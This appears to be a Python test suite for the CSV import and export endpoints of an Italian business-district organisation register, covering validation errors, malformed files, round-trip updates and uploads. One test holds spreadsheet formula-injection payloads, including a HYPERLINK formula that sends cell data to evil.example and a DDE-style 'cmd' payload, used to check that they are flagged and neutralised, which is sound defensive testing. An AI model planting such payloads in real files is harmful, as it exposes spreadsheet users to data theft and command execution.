"""CSV import (all rows or none, errors by line) and export."""

from __future__ import annotations

import csv
import io
from typing import Any

CSV_HEADERS = {"content-type": "text/csv"}

GOOD = """name,kind,sectors,province,city,vat_number,keywords,year,staff,rd_staff,turnover_eur,lab_m2,patents
Alfa Bio S.r.l.,company,biotech|pharma,SI,Siena,IT12345678903,vaccines|adjuvants,2024,40,12,8000000,300,4
Università Esempio,university,,PI,Pisa,,,,,,,,
"Gamma, Diagnostica S.p.A.",company,diagnostics,FI,Firenze,00488410010,,2024,300,30,60000000,1200,20
"""


async def _import(membership: Any, text: str | bytes) -> Any:
    body = text.encode() if isinstance(text, str) else text
    return await membership.http.post("/organisations/import", content=body, headers=CSV_HEADERS)


async def test_import_creates_every_row_with_its_figures(membership: Any) -> None:
    events = await membership.outbox_count()
    accepted = await membership.metric("distretto_membership_import_rows_total", outcome="accepted")
    response = await _import(membership, GOOD)
    assert response.status_code == 201, response.text
    assert response.json()["imported"] == 3
    page = await membership.get("/organisations")
    by_name = {o["name"]: o for o in page["items"]}
    assert set(by_name) == {"Alfa Bio S.r.l.", "Università Esempio", "Gamma, Diagnostica S.p.A."}
    alfa = by_name["Alfa Bio S.r.l."]
    assert alfa["sectors"] == ["biotech", "pharma"]
    assert alfa["keywords"] == ["vaccines", "adjuvants"]
    assert alfa["vat_number"] == "12345678903"
    assert (alfa["size_class"], alfa["latest_figures"]["staff"]) == ("small", 40)
    assert by_name["Gamma, Diagnostica S.p.A."]["size_class"] == "large"
    assert by_name["Università Esempio"]["latest_figures"] is None
    assert await membership.outbox_count() == events + 3
    assert await membership.metric("distretto_membership_import_rows_total", outcome="accepted") == accepted + 3

    # Semicolon-separated files (Excel in Italian) work too.
    semi = "name;kind;sectors;province\nDelta Nutra;company;nutraceutics;LU\n"
    response = await _import(membership, semi)
    assert response.status_code == 201, response.text
    assert (await membership.get("/organisations", q="delta"))["items"][0]["province"] == "LU"


async def test_a_file_with_bad_rows_imports_nothing_and_names_each_line(membership: Any) -> None:
    await membership.create(name="Already here", vat_number="00743110157")
    before = await membership.register_snapshot()
    text = (
        "name,kind,sectors,vat_number,staff,year\n"  # line 1
        "Good One,company,biotech,01114601006,10,2024\n"  # line 2
        "Bad VAT,company,biotech,12345678901,,\n"  # line 3
        "Bad Sector,company,astrology,,,\n"  # line 4
        "Negative,company,pharma,,-3,2024\n"  # line 5
        "Repeat,company,pharma,01114601006,,\n"  # line 6
        "Known,company,pharma,00743110157,,\n"  # line 7
        ",company,pharma,,,\n"  # line 8: no name
        "Too,many,fields,,,,\n"  # line 9
        "Good Two,research_institute,,,,\n"  # line 10
    )
    rejected = await membership.metric("distretto_membership_import_rows_total", outcome="rejected")
    response = await _import(membership, text)
    assert response.status_code == 422, response.text
    assert await membership.metric("distretto_membership_import_rows_total", outcome="rejected") == rejected + 7
    body = response.json()
    assert "nothing was imported" in body["message"]
    assert body["message"].startswith("7 of 9 rows have errors")
    errors = {e["line"]: " ".join(e["errors"]) for e in body["details"]}
    assert sorted(errors) == [3, 4, 5, 6, 7, 8, 9]
    assert "check digit" in errors[3]
    assert "sectors.0" in errors[4]
    assert "staff" in errors[5]
    assert "repeats line 2" in errors[6]
    assert "already registered" in errors[7]
    assert "name" in errors[8]
    assert "7 fields" in errors[9]
    assert await membership.register_snapshot() == before


MALFORMED: list[tuple[bytes, str]] = [
    (b"", "empty"),
    (b"\n\n", "empty"),
    (b"name,kind\n", "no rows"),
    ("name,kind\nCaffè Rossi,company\n".encode("latin-1"), "UTF-8"),
    (b"name,kind,colour\nX,company,red\n", "unknown column"),
    (b"name,sectors\nX,biotech\n", "missing required column(s): kind"),
    (b"name,kind,name\nX,company,Y\n", "more than once"),
    (b'name,kind\n"Unclosed,company\n', "malformed CSV"),
    (b"name,kind\nX\x00,company\n", "NUL"),
    (b"\x89PNG\r\n\x1a\n\x00\x00", "UTF-8"),
]


async def test_malformed_files_are_refused(membership: Any) -> None:
    await membership.create(name="Existing")
    before = await membership.register_snapshot()
    for raw, words in MALFORMED:
        response = await _import(membership, raw)
        assert response.status_code == 400, (raw, response.text)
        assert words in response.json()["message"], (raw, response.json())
    assert await membership.register_snapshot() == before


async def test_export_is_filtered_and_can_be_imported_again(membership: Any) -> None:
    a = await membership.create(name="Export Alfa", sectors=["biotech", "pharma"], keywords=["cells", "RNA"])
    await membership.create(name="Export Beta", sectors=["cosmeceutics"], province="LU")
    await membership.post(f"/organisations/{a['id']}/approve")
    await membership.http.put(
        f"/organisations/{a['id']}/figures/2024",
        json={"staff": 12, "rd_staff": 2, "turnover_eur": 1e6, "lab_m2": 80, "patents": 1},
    )

    response = await membership.http.get("/organisations/export", params={"status": "active"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["name"] for r in rows] == ["Export Alfa"]
    assert rows[0]["sectors"] == "biotech|pharma"
    assert rows[0]["keywords"] == "cells|RNA"
    assert (rows[0]["status"], rows[0]["size_class"], rows[0]["staff"]) == ("active", "small", "12")

    everything = (await membership.http.get("/organisations/export")).text
    assert len(list(csv.DictReader(io.StringIO(everything)))) == 2
    again = await _import(membership, everything)  # by id: the same two organisations, not copies
    assert again.status_code == 201, again.text
    page = await membership.get("/organisations", q="export beta")
    assert page["total"] == 1
    assert {o["province"] for o in page["items"]} == {"LU"}


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]


async def test_formula_cells_are_flagged_on_import_and_neutralised_on_export(membership: Any) -> None:
    lines = ["name,kind,description,city"]
    lines += [f'"Formula {i}",company,"{f.replace(chr(34), chr(34) * 2)}",Siena' for i, f in enumerate(FORMULAS)]
    lines.append('"\tTabbed",company,plain text,"\tSiena"')
    response = await _import(membership, "\n".join(lines) + "\n")
    assert response.status_code == 201, response.text
    warnings = response.json()["warnings"]
    assert [(w["line"], w["column"]) for w in warnings] == [
        (2, "description"),
        (3, "description"),
        (4, "description"),
        (5, "description"),
        (6, "name"),
        (6, "city"),
    ]
    assert "formula" in warnings[0]["warning"]

    exported = (await membership.http.get("/organisations/export")).text
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(exported))}
    for i, formula in enumerate(FORMULAS):
        assert rows[f"Formula {i}"]["description"] == "'" + formula
    # Every cell of the file: none starts with a character a spreadsheet would run.
    for row in csv.reader(io.StringIO(exported)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


async def test_plain_numbers_are_not_flagged(membership: Any) -> None:
    response = await _import(membership, "name,kind,year,staff\nNumbers,company,2024,-0\n")
    assert response.status_code == 201, response.text
    assert response.json()["warnings"] == []


async def test_an_edited_export_imports_back_as_updates_by_id(membership: Any) -> None:
    a = await membership.create(name="Round Alfa", sectors=["biotech"], keywords=["cells"], province="SI")
    b = await membership.create(name="Round Beta", sectors=["pharma"], province="FI", vat_number="00488410010")
    await membership.post(f"/organisations/{a['id']}/approve")
    figures = {"staff": 12, "rd_staff": 2, "turnover_eur": 1e6, "lab_m2": 80, "patents": 1}
    await membership.http.put(f"/organisations/{a['id']}/figures/2024", json=figures)
    exported = (await membership.http.get("/organisations/export")).text
    events = await membership.outbox_count()

    # Imported unchanged: the same organisations, nothing new, no event.
    unchanged = await _import(membership, exported)
    assert unchanged.status_code == 201, unchanged.text
    assert (unchanged.json()["created"], unchanged.json()["updated"]) == (0, 2)
    assert (await membership.get("/organisations"))["total"] == 2
    assert await membership.outbox_count() == events

    # Edited in a spreadsheet: Alfa moves to Lucca with 60 staff, Beta gets a keyword; a new row is added.
    rows = list(csv.DictReader(io.StringIO(exported)))
    for row in rows:
        if row["id"] == a["id"]:
            row.update(province="LU", city="Lucca", staff="60", turnover_eur="12000000")
        else:
            row.update(keywords="tablets|generics", status="left")  # status is not the import's to change
    rows.append({**{k: "" for k in rows[0]}, "name": "Round Gamma", "kind": "university"})
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    result = await _import(membership, out.getvalue())
    assert result.status_code == 201, result.text
    assert (result.json()["imported"], result.json()["created"], result.json()["updated"]) == (3, 1, 2)

    alfa = await membership.get(f"/organisations/{a['id']}")
    assert (alfa["province"], alfa["city"], alfa["status"], alfa["size_class"]) == ("LU", "Lucca", "active", "medium")
    assert alfa["latest_figures"]["staff"] == 60 and alfa["keywords"] == ["cells"]
    beta = await membership.get(f"/organisations/{b['id']}")
    assert (beta["keywords"], beta["status"], beta["vat_number"]) == (["tablets", "generics"], "applied", "00488410010")
    assert (await membership.get("/organisations"))["total"] == 3
    types = (await membership.outbox_types())[events:]
    assert sorted(types) == sorted(
        ["distretto.membership.organisation.updated.v1"] * 2 + ["distretto.membership.organisation.registered.v1"]
    )


async def test_an_import_row_with_a_bad_id_imports_nothing(membership: Any) -> None:
    a = await membership.create(name="Keep Me")
    before = await membership.register_snapshot()
    text = f"id,name,kind\n{a['id']},Renamed,company\nnot-an-id,Other,company\n{a['id']},Twice,company\n"
    response = await _import(membership, text)
    assert response.status_code == 422, response.text
    assert [e["line"] for e in response.json()["details"]] == [3, 4]
    assert "'not-an-id' is not an organisation id" in response.json()["message"]
    assert "repeats line 2" in response.json()["message"]
    assert await membership.register_snapshot() == before


async def test_a_browser_multipart_upload_of_the_csv_is_read_as_the_file(membership: Any) -> None:
    # What a browser's <form enctype="multipart/form-data"><input type="file" name="file"> sends.
    text = "name,kind,sectors,city\nUpload Bio,company,biotech,Pisa\nUpload Uni,university,,Siena\n"
    response = await membership.http.post(
        "/organisations/import",
        files={"file": ("organisations.csv", text.encode(), "text/csv")},
        data={"note": "a field besides the file"},
    )
    assert response.status_code == 201, response.text
    assert response.json()["imported"] == 2
    names = {o["name"]: o for o in (await membership.get("/organisations"))["items"]}
    assert set(names) == {"Upload Bio", "Upload Uni"} and names["Upload Bio"]["city"] == "Pisa"

    before = await membership.register_snapshot()
    no_file = await membership.http.post(
        "/organisations/import",
        content=b'--xyz\r\nContent-Disposition: form-data; name="file"\r\n\r\nnot a file\r\n--xyz--\r\n',
        headers={"content-type": "multipart/form-data; boundary=xyz"},
    )
    assert no_file.status_code in (400, 422) and "no file" in no_file.json()["message"]
    broken = await membership.http.post(
        "/organisations/import",
        content=b"--xyz\r\nContent-Disposition: form-data; name=file; filename=a.csv\r\n\r\nname,kind\r\n",
        headers={"content-type": "multipart/form-data; boundary=xyz"},
    )
    assert broken.status_code == 400, broken.text
    assert await membership.register_snapshot() == before
